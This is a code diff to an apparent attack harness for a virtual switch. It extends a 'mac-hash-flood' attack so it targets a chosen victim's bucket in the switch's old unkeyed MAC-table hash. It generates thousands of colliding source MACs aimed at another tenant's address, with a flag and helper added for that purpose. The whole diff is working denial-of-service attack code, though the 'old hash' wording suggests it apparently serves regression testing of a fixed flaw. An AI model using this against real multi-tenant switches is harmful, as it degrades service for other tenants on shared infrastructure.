@@ -143,6 +143,7 @@ class Context:
         self.dst_mac = args.dst_mac
         self.count = args.count
         self.fib_buckets = args.fib_buckets
+        self.victim_mac = args.victim_mac
         self.open: list[VhostUserFrontend] = []
         self.extra_fds: list[int] = []
 
@@ -437,6 +438,12 @@ def blocking_kickfd(ctx: Context) -> str:
 
 # ----------------------------------------------------------------- MAC table
 
+def old_bucket(mac: bytes, buckets: int) -> int:
+    """The bucket of a MAC (VLAN 0) under the old hash, as vs_fib_key and bucket_of computed it."""
+    key = int.from_bytes(mac, "big")
+    return ((key * FIB_MULTIPLIER) % (1 << 64)) >> 32 & (buckets - 1)
+
+
 def colliding_macs(count: int, buckets: int, bucket: int = 0x1234) -> list[bytes]:
     """Unicast MACs that all land in one bucket of the unkeyed hash
     (key * FIB_MULTIPLIER >> 32) & (buckets - 1), with key the MAC as a
@@ -454,6 +461,7 @@ def colliding_macs(count: int, buckets: int, bucket: int = 0x1234) -> list[bytes
         if key >> 48 or (key >> 40) & 1 or key == 0:
             continue        # not 48 bits, or a multicast address
         out.append(key.to_bytes(6, "big"))
+    assert all(old_bucket(m, buckets) == bucket for m in out)
     return out
 
 
@@ -471,16 +479,19 @@ def send_many(fe: VhostUserFrontend, frames: list[bytes], batch: int = 128) -> i
     return consumed
 
 
-@attack("mac-hash-flood", "mac-table", "thousands of source MACs that share one bucket of the old unkeyed FIB hash")
+@attack("mac-hash-flood", "mac-table",
+        "thousands of source MACs in one bucket of the old unkeyed FIB hash (--victim-mac's bucket)")
 def mac_hash_flood(ctx: Context) -> str:
     fe = ctx.guest()
-    macs = colliding_macs(ctx.count, ctx.fib_buckets)
+    # In the victim's bucket, every learn and lookup of the victim's MAC walks the whole chain.
+    bucket = old_bucket(ctx.victim_mac, ctx.fib_buckets) if ctx.victim_mac else 0x1234
+    macs = colliding_macs(ctx.count, ctx.fib_buckets, bucket)
     started = time.monotonic()
     # Each frame is addressed to its own source: learned, then looked up, then dropped.
     consumed = send_many(fe, [eth_frame(m, m) for m in macs])
     took = time.monotonic() - started
     ctx.hold_state()
-    return (f"{len(macs)} source MACs in one bucket of {ctx.fib_buckets} (old hash); {consumed} frames "
+    return (f"{len(macs)} source MACs in bucket {bucket:#x} of {ctx.fib_buckets} (old hash); {consumed} frames "
             f"consumed in {took:.2f} s ({consumed / max(took, 1e-6):.0f} frames/s)")
 
 
@@ -951,6 +962,8 @@ def build_parser() -> argparse.ArgumentParser:
                    help="MACs for mac-hash-flood; message-flood sends half as many requests (default %(default)s)")
     p.add_argument("--fib-buckets", type=int, default=DEFAULT_FIB_BUCKETS,
                    help="bucket count of the FIB hash to collide in (default %(default)s)")
+    p.add_argument("--victim-mac", type=parse_mac,
+                   help="mac-hash-flood: collide with this (another tenant's) MAC's bucket")
     p.add_argument("--timeout", type=float, default=60.0, help="time limit per attack (default %(default)s)")
     p.add_argument("--control", metavar="SOCK",
                    help="vswitchd's control socket: print how PORT's counters changed after each attack")
